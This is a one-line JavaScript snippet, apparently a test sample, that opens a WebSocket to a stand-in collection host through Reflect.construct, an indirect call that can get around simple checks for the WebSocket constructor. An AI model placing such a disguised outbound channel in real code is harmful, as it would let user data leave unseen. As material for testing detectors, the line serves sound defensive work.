Reflect.construct(WebSocket, ["wss://collect.example"]);
